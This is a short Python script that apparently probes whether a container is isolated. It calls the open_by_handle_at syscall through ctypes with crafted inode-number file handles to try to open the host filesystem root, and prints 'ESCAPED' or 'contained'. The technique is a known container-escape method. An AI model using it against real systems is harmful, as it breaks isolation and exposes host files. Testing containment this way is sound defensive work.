# verdict: ok ; what: opens the root of the disk below by its inode number
import ctypes
import os
import platform
import struct

libc = ctypes.CDLL(None, use_errno=True)
number = {"x86_64": 304, "aarch64": 265}[platform.machine()]
INODE_AND_GENERATION = 1
for place in ("/", "/usr", "/etc", "/tmp", "/etc/hosts", "/etc/resolv.conf"):
    try:
        below = os.open(place, os.O_RDONLY)
    except OSError:
        continue
    for inode in (2, 64, 128, 256):
        handle = struct.pack("IiII", 8, INODE_AND_GENERATION, inode, 0)
        found = libc.syscall(number, below, ctypes.create_string_buffer(handle), os.O_RDONLY)
        if found >= 0:
            print(f"ESCAPED: inode {inode} below {place}")
print("contained")
